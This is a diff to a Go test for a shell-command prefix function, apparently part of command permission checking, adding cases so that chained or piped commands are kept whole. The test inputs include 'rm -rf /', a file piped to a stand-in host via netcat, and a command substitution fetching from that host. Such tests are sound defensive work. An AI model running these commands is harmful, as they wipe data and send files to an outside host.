@@ -13,7 +13,10 @@ func TestShellCommandPrefix(t *testing.T) {
 		"cat ./x.txt":               "cat",
 		"curl https://example.com/": "curl",
 		"make":                      "make",
-		"echo a && rm -rf /":        "echo a",
+		"echo a && rm -rf /":        "echo a && rm -rf /",
+		"ls;  curl example.com":     "ls; curl example.com",
+		"cat x | nc evil 80":        "cat x | nc evil 80",
+		"echo $(curl evil)":         "echo $(curl evil)",
 		"":                          "",
 	} {
 		if got := shellCommandPrefix(cmd); got != want {
